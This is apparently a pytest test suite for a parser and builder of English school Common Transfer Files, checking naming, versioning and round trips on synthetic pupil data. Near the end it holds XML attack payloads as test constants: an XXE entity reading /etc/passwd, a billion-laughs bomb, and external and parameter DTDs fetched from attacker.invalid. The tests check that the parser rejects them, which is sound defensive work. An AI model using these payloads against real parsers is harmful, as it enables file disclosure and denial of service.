"""Tests for cme.law.ctf (formats.md §1; rules.md R7.1-R7.3)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cme.law.ctf import (
    CTFContact,
    CTFError,
    CTFHeader,
    CTFPhone,
    CTFPupil,
    CTFSchoolHistoryEntry,
    build_ctf,
    build_lost_pupil_ctf,
    ctf_academic_year,
    ctf_file_name,
    ctf_version,
    default_accepted_versions,
    format_ctf_datetime,
    lost_pupil_file_name,
    nc_year_from_code,
    parse_ctf,
)

SAMPLE = Path(__file__).parent / "data" / "9312999_CTF_XXXXXXX_001.xml"
TODAY = dt.date(2026, 3, 2)
WHEN = dt.datetime(2026, 3, 2, 9, 15, 0)

PUPIL = CTFPupil(
    upn="X931200024001",
    surname="O'BRIEN",
    forename="ZOË",
    dob=dt.date(2016, 5, 14),
    sex="F",
    former_upn="W93120002401A",
    preferred_surname="O'Brien",
    preferred_forename="Zoë",
    former_surname="Smith & Jones",
    former_forename="Zoe",
    middle_names="Anne-Marie <Lou>",
    nc_year_actual="5",
    address_lines=("1 Nowhere Lane", "Cowley", "Oxford"),
    postcode="OX4 1AA",
    phones=(CTFPhone(number="01865000000", telephone_type="H"),),
    email="family@example.invalid",
    contacts=(
        CTFContact(
            forename="Sam",
            surname="O'Brien",
            relationship="PAR",
            responsibility=True,
            phones=(CTFPhone(number="07700900000", telephone_type="M"), CTFPhone(number="01865111111")),
            email="sam@example.invalid",
            title="Ms",
            order=1,
        ),
        CTFContact(forename="Alex", surname="Smith", responsibility=False, order=2),
    ),
    school_history=(
        CTFSchoolHistoryEntry(
            lea="931",
            estab="2999",
            school_name="Synthetic Primary School",
            entry_date=dt.date(2020, 9, 3),
            leaving_date=dt.date(2026, 2, 27),
            leaving_reason="I",
        ),
    ),
)

HEADER = CTFHeader(
    source_lea="931",
    source_estab="2999",
    source_school_name="Synthetic Primary School",
    dest_lea="931",
    dest_estab="4125",
    generated_at=WHEN,
    source_urn="123456",
)


def wrap(
    pupils: str = "<Pupil><UPN>X931200024001</UPN></Pupil>", version: str = "<CTFversion>25.0</CTFversion>"
) -> bytes:
    return (
        "<CTfile><Header><DocumentName>Common Transfer File</DocumentName>"
        f"{version}<DateTime>2026-03-02T09:15:00</DateTime><SourceSchool><LEA>931</LEA><Estab>2999</Estab>"
        "</SourceSchool><DestSchool><LEA>XXX</LEA><Estab>XXXX</Estab></DestSchool></Header>"
        f"<CTFpupilData>{pupils}</CTFpupilData></CTfile>"
    ).encode()


# --------------------------------------------------------------------------------------------------
# Versions and names
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("on", "year", "version"),
    [(dt.date(2025, 7, 31), 2024, "24.0"), (dt.date(2025, 8, 1), 2025, "25.0"), (dt.date(2026, 3, 2), 2025, "25.0"),
     (dt.date(2026, 8, 1), 2026, "26.0"), (dt.date(2100, 9, 1), 2100, "00.0")],
)  # fmt: skip
def test_version_rule(on: dt.date, year: int, version: str) -> None:
    assert ctf_academic_year(on) == year
    assert ctf_version(year) == version


def test_default_accepted_versions_are_current_and_previous() -> None:
    assert default_accepted_versions(TODAY) == ("25.0", "24.0")
    assert default_accepted_versions(dt.date(2026, 11, 27)) == ("26.0", "25.0")


@pytest.mark.parametrize(
    ("args", "name"),
    [
        (("931", "2999"), "9312999_CTF_XXXXXXX_001.xml"),
        (("931", "LLLL"), "931LLLL_CTF_XXXXXXX_001.xml"),
        (("931", "2999", 2), "9312999_CTF_XXXXXXX_002.xml"),
    ],
    ids=["R7.2-school", "R7.2-LA-sender", "R7.2-second-file"],
)
def test_lost_pupil_file_name(args: tuple[str, str] | tuple[str, str, int], name: str) -> None:
    assert lost_pupil_file_name(*args) == name


def test_ctf_file_name() -> None:
    assert ctf_file_name("931", "2999", "931", "4125") == "9312999_CTF_9314125_001.xml"
    assert ctf_file_name("820", "LLLL", "820", "1234") == "820LLLL_CTF_8201234_001.xml"
    assert ctf_file_name("931", "2999", "MMM", "MMMM", 3) == "9312999_CTF_MMMMMMM_003.xml"


@pytest.mark.parametrize(
    "args",
    [("93", "2999", "XXX", "XXXX", 1), ("931", "299", "XXX", "XXXX", 1), ("931", "2999", "XX", "XXXX", 1),
     ("931", "2999", "XXX", "XXX", 1), ("931", "2999", "XXX", "XXXX", 0), ("931", "2999", "XXX", "XXXX", 1000)],
)  # fmt: skip
def test_ctf_file_name_rejects_bad_parts(args: tuple[str, str, str, str, int]) -> None:
    with pytest.raises(ValueError):
        ctf_file_name(*args)


@pytest.mark.parametrize(
    ("code", "year"), [("R", 0), ("N2", -1), ("N1", -2), ("5", 5), (" 11 ", 11), ("X", None), (None, None), ("", None)]
)
def test_nc_year_from_code(code: str | None, year: int | None) -> None:
    assert nc_year_from_code(code) == year


def test_format_ctf_datetime_has_no_zone() -> None:
    assert format_ctf_datetime(dt.datetime(2026, 3, 2, 9, 15, 7, 999)) == "2026-03-02T09:15:07"
    aware = dt.datetime(2026, 7, 1, 12, 0, tzinfo=dt.UTC)
    assert format_ctf_datetime(aware) == "2026-07-01T13:00:00"  # BST
    assert format_ctf_datetime(aware.astimezone(ZoneInfo("Asia/Tokyo"))) == "2026-07-01T13:00:00"


# --------------------------------------------------------------------------------------------------
# Building
# --------------------------------------------------------------------------------------------------


def test_build_ctf_structure() -> None:
    data = build_ctf(HEADER, [PUPIL])
    text = data.decode("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="utf-8"?>\n<CTfile>')
    for fragment in (
        "<DocumentName>Common Transfer File</DocumentName>",
        "<CTFversion>25.0</CTFversion>",
        "<DateTime>2026-03-02T09:15:00</DateTime>",
        "<DocumentQualifier>full</DocumentQualifier>",
        "<SupplierID>CME</SupplierID>",
        "<AcademicYear>2025</AcademicYear>",
        "<CTFpupilData>",
        "<Sex>F</Sex>",
        "O'BRIEN",
        "Smith &amp; Jones",
        "Anne-Marie &lt;Lou&gt;",
        "<Responsibility>true</Responsibility>",
    ):
        assert fragment in text, fragment
    assert "<Gender>" not in text
    assert "xmlns" not in text


def test_build_ctf_explicit_version_and_year() -> None:
    header = CTFHeader(
        source_lea="931", source_estab="2999", source_school_name=None, dest_lea="931", dest_estab="4125",
        generated_at=WHEN, academic_year=2024, version="24.0", document_qualifier="partial",
    )  # fmt: skip
    text = build_ctf(header, [PUPIL]).decode()
    assert "<CTFversion>24.0</CTFversion>" in text and "<AcademicYear>2024</AcademicYear>" in text
    assert (
        "<DocumentQualifier>partial</DocumentQualifier>" in text
        and "<SchoolName>" not in text.split("<CTFpupilData>")[0]
    )


def test_build_ctf_rejects_unwritable_values() -> None:
    with pytest.raises(ValueError, match="cannot be written"):
        build_ctf(HEADER, [CTFPupil(upn="X931200024001", surname="A\x00B", forename="C", dob=None)])
    with pytest.raises(ValueError, match="at most 5 lines"):
        build_ctf(
            HEADER, [CTFPupil(upn="X931200024001", surname="A", forename="C", dob=None, address_lines=("x",) * 6)]
        )
    no_time = CTFHeader(
        source_lea="931", source_estab="2999", source_school_name=None, dest_lea="XXX", dest_estab="XXXX",
        generated_at=None,
    )  # fmt: skip
    with pytest.raises(ValueError, match="generated_at"):
        build_ctf(no_time, [PUPIL])


def test_round_trip_build_then_parse() -> None:
    parsed = parse_ctf(build_ctf(HEADER, [PUPIL, PUPIL]), today=TODAY)
    assert parsed.pupils == (PUPIL, PUPIL)
    assert parsed.warnings == ()
    assert parsed.version == "25.0"
    assert parsed.header == CTFHeader(
        source_lea="931", source_estab="2999", source_school_name="Synthetic Primary School", dest_lea="931",
        dest_estab="4125", generated_at=WHEN, academic_year=2025, version="25.0", document_qualifier="full",
        supplier_id="CME", source_urn="123456",
    )  # fmt: skip


def test_minimal_pupil_round_trip_leaves_out_empty_sections() -> None:
    pupil = CTFPupil(upn="X931200024001", surname="A", forename="B", dob=dt.date(2016, 1, 1))
    data = build_ctf(HEADER, [pupil])
    for absent in (b"<BasicDetails>", b"<Address>", b"<Phones>", b"<Contacts>", b"<SchoolHistory>", b"<Sex>"):
        assert absent not in data
    assert parse_ctf(data, today=TODAY).pupils == (pupil,)


def test_r7_2_lost_pupil_ctf_has_one_pupil_and_unknown_destination() -> None:
    name, data = build_lost_pupil_ctf(
        source_la="931",
        source_estab="2999",
        source_school_name="Synthetic Primary School",
        pupil=PUPIL,
        generated_at=WHEN,
    )
    assert name == "9312999_CTF_XXXXXXX_001.xml"
    parsed = parse_ctf(data, today=TODAY)
    assert len(parsed.pupils) == 1 and parsed.pupils[0] == PUPIL
    assert (parsed.header.dest_lea, parsed.header.dest_estab) == ("XXX", "XXXX")
    assert (parsed.header.source_lea, parsed.header.source_estab) == ("931", "2999")


def test_r7_2_lost_pupil_ctf_from_an_la() -> None:
    name, data = build_lost_pupil_ctf(
        source_la="931", source_estab="LLLL", source_school_name=None, pupil=PUPIL, generated_at=WHEN, seq=4
    )
    assert name == "931LLLL_CTF_XXXXXXX_004.xml"
    assert parse_ctf(data, today=TODAY).header.source_estab == "LLLL"


names = st.one_of(
    st.sampled_from(
        ["O'Brien", "Smith & Jones", "D'Arcy-Ó Súilleabháin", "Nguyễn", "李", "Zoë <Z>", '"Quoted"', "]]>"]
    ),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), min_size=1, max_size=25)
    .map(str.strip)
    .filter(bool),
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(
    names, names, st.one_of(st.none(), names), st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2025, 1, 1))
)
def test_round_trip_of_names(surname: str, forename: str, middle: str | None, dob: dt.date) -> None:
    pupil = CTFPupil(
        upn="X931200024001",
        surname=surname,
        forename=forename,
        dob=dob,
        middle_names=middle,
        contacts=(CTFContact(forename=forename, surname=surname),),
    )
    name, data = build_lost_pupil_ctf(
        source_la="931", source_estab="2999", source_school_name=surname, pupil=pupil, generated_at=WHEN
    )
    parsed = parse_ctf(data, today=TODAY)
    assert parsed.pupils == (pupil,)
    assert parsed.header.source_school_name == surname


# --------------------------------------------------------------------------------------------------
# Parsing
# --------------------------------------------------------------------------------------------------


def test_shared_sample_file_parses() -> None:
    parsed = parse_ctf(SAMPLE.read_bytes(), today=TODAY)
    assert parsed.warnings == ()
    assert parsed.version == "25.0"
    header = parsed.header
    assert (header.source_lea, header.source_estab, header.dest_lea, header.dest_estab) == (
        "931",
        "2999",
        "XXX",
        "XXXX",
    )
    assert header.generated_at == WHEN and header.academic_year == 2025
    assert header.supplier_id == "SyntheticTestData"
    (pupil,) = parsed.pupils
    assert pupil.upn == "E931299921007"
    assert (pupil.surname, pupil.forename, pupil.sex) == ("EXAMPLE", "ALEX", "F")
    assert pupil.dob == dt.date(2016, 5, 14)
    assert (pupil.preferred_surname, pupil.preferred_forename, pupil.nc_year_actual) == ("Example", "Alex", "5")
    assert pupil.address_lines == ("1 Nowhere Lane", "Oxford") and pupil.postcode == "OX1 1ZZ"
    assert pupil.phones == (CTFPhone(number="01865000000", telephone_type="H"),)
    (contact,) = pupil.contacts
    assert (contact.title, contact.forename, contact.surname, contact.relationship) == ("Ms", "Sam", "Example", "PAR")
    assert contact.responsibility is True and contact.order == 1
    assert contact.phones == (CTFPhone(number="07700900000", telephone_type="M"),)
    (school,) = pupil.school_history
    assert school == CTFSchoolHistoryEntry(
        lea="931", estab="2999", school_name="Synthetic Primary School", entry_date=dt.date(2020, 9, 3),
        leaving_date=dt.date(2026, 2, 27),
    )  # fmt: skip


def test_shared_sample_is_a_lost_pupil_file_by_name() -> None:
    assert SAMPLE.name == lost_pupil_file_name("931", "2999")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CTfile><Header><CTFversion>25.0</CTFversion></Header><CTFpupilData><Pupil><Surname>&xxe;</Surname></Pupil>
</CTFpupilData></CTfile>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile>&lol9;</CTfile>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile SYSTEM "http://attacker.invalid/ctf.dtd">
<CTfile/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<CTfile/>"""


@pytest.mark.parametrize(
    "payload",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_dtd_and_entity_attacks_are_rejected(payload: bytes) -> None:
    with pytest.raises(CTFError, match="document type declaration") as caught:
        parse_ctf(payload, today=TODAY)
    assert "rejected" in str(caught.value)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(b"", "The file is empty", id="empty"),
        pytest.param(b"  \n ", "The file is empty", id="whitespace"),
        pytest.param(b"not xml at all", "not valid XML", id="text"),
        pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "not valid XML", id="pdf"),
        pytest.param(b"UPN,Surname\nX931200024001,A\n", "not valid XML", id="csv"),
        pytest.param(b"<CTfile><Header>", "not valid XML (problem at line 1", id="truncated"),
        pytest.param(b"<Pupils><Pupil/></Pupils>", "starts with <Pupils> instead of <CTfile>", id="wrong-root"),
        pytest.param(b"<ATfile><Header/></ATfile>", "admissions transfer file", id="ATF"),
        pytest.param(b"<CTfile><CTFpupilData/></CTfile>", "no Header", id="no-header"),
        pytest.param(
            b"<CTfile><Header><DocumentName>x</DocumentName></Header></CTfile>", "which CTF version", id="no-version"
        ),
        pytest.param(
            wrap(version="<CTFversion>23.0</CTFversion>"), "CTF version 23.0 is not an expected version", id="old"
        ),
        pytest.param(wrap(version="<CTFversion>banana</CTFversion>"), "not an expected version", id="junk-version"),
        pytest.param(wrap(pupils=""), "contains no pupils", id="no-pupils"),
    ],
)
def test_malformed_files_are_rejected_with_officer_messages(data: bytes, message: str) -> None:
    with pytest.raises(CTFError, match=message.replace("(", r"\(").replace(")", r"\)")):
        parse_ctf(data, today=TODAY)


def test_version_message_lists_what_is_accepted() -> None:
    with pytest.raises(CTFError, match=r"accepts CTF 25.0 and 24.0"):
        parse_ctf(wrap(version="<CTFversion>26.0</CTFversion>"), today=TODAY)


def test_oversize_file_rejected_before_parsing() -> None:
    with pytest.raises(CTFError, match="too large"):
        parse_ctf(SAMPLE.read_bytes(), max_bytes=100, today=TODAY)


def test_accepted_versions_parameter() -> None:
    data = wrap(version="<CTFversion>23.0</CTFversion>")
    assert parse_ctf(data, accepted_versions={"23.0"}).version == "23.0"
    assert parse_ctf(wrap(version="<CTFversion>25</CTFversion>"), today=TODAY).version == "25"


def test_version_element_is_case_insensitive() -> None:
    assert parse_ctf(wrap(version="<CTFVersion>24.0</CTFVersion>"), today=TODAY).version == "24.0"


def test_sex_falls_back_to_gender() -> None:
    pupil = "<Pupil><UPN>X931200024001</UPN><Surname>A</Surname><Forename>B</Forename><DOB>2016-01-01</DOB>"
    parsed = parse_ctf(wrap(pupils=pupil + "<Gender>M</Gender></Pupil>"), today=TODAY)
    assert parsed.pupils[0].sex == "M"
    parsed = parse_ctf(wrap(pupils=pupil + "<Sex>F</Sex><Gender>M</Gender></Pupil>"), today=TODAY)
    assert parsed.pupils[0].sex == "F"


def test_namespaces_are_ignored() -> None:
    data = SAMPLE.read_bytes().replace(b"<CTfile>", b'<CTfile xmlns="urn:example:ctf">')
    parsed = parse_ctf(data, today=TODAY)
    assert parsed.pupils[0].upn == "E931299921007"


def test_bs7666_address_becomes_lines() -> None:
    pupil = (
        "<Pupil><UPN>X931200024001</UPN><Surname>A</Surname><Forename>B</Forename><DOB>2016-01-01</DOB>"
        "<Address><BS7666Address><PAON>1</PAON><Street>High Street</Street><Town>Oxford</Town></BS7666Address>"
        "<County>Oxfordshire</County><PostCode>OX1 1AA</PostCode></Address></Pupil>"
    )
    parsed = parse_ctf(wrap(pupils=pupil), today=TODAY)
    assert parsed.pupils[0].address_lines == ("1", "High Street", "Oxford", "Oxfordshire")
    assert parsed.pupils[0].postcode == "OX1 1AA"


def test_field_problems_become_warnings_not_errors() -> None:
    """Problems the schema cannot see (a wrong UPN check letter, a missing UPN or name) are warnings: one pupil's
    gap does not lose the file. A value that is not even of the right form refuses the file (XML-3, below)."""
    pupil = (
        "<Pupil><UPN>A801200005001</UPN><Surname>A</Surname><DOB>2016-03-01</DOB>"
        "<Contacts><Contact><Forename>Sam</Forename></Contact></Contacts>"
        "<SchoolHistory><School><EntryDate>2016-01-01T00:00:00</EntryDate></School></SchoolHistory></Pupil>"
        "<Pupil><Surname>C</Surname><Forename>D</Forename></Pupil>"
    )
    header = "<CTFversion>25.0</CTFversion><DocumentName>Transfer</DocumentName>"
    data = wrap(pupils=pupil, version=header).replace(b"<DocumentName>Common Transfer File</DocumentName>", b"")
    data = data.replace(b"<DateTime>2026-03-02T09:15:00</DateTime>", b"")
    parsed = parse_ctf(data, today=TODAY)
    first, second = parsed.pupils
    assert first.forename == "" and first.contacts[0].responsibility is None
    assert first.school_history[0].entry_date == dt.date(2016, 1, 1)
    assert second.upn == "" and second.dob is None
    warnings = "\n".join(parsed.warnings)
    assert "Pupil 1 (UPN A801200005001): UPN invalid (wrong check letter at character 1)" in warnings
    assert "has no surname or no forename" in warnings
    assert "Pupil 2: has no UPN" in warnings
    assert "Pupil 2: has no readable date of birth" in warnings
    assert "Header: has no DateTime" in warnings
    assert "DocumentName is 'Transfer'" in warnings
    assert parsed.header.generated_at is None


def test_xml3_values_of_the_wrong_form_refuse_the_whole_file_with_each_reason() -> None:
    pupil = (
        "<Pupil><UPN>A801200005001</UPN><Surname>A</Surname><Forename>B</Forename><DOB>2016-13-01</DOB>"
        "<Contacts><Contact><Responsibility>maybe</Responsibility><Order>first</Order></Contact></Contacts></Pupil>"
    )
    data = wrap(pupils=pupil).replace(b"2026-03-02T09:15:00", b"yesterday")
    with pytest.raises(CTFError) as caught:
        parse_ctf(data, today=TODAY)
    message = str(caught.value)
    for reason in ("CTfile/Header/DateTime: must be a date and time",
                   "CTfile/CTFpupilData/Pupil/DOB: must be a date, YYYY-MM-DD",
                   "Pupil/Contacts/Contact/Responsibility: must be true or false",
                   "Pupil/Contacts/Contact/Order: must be a whole number",
                   "nothing was imported", "not the DfE's"):
        assert reason in message, reason
    assert "2016-13-01" not in message  # the reasons name the place, not the personal data
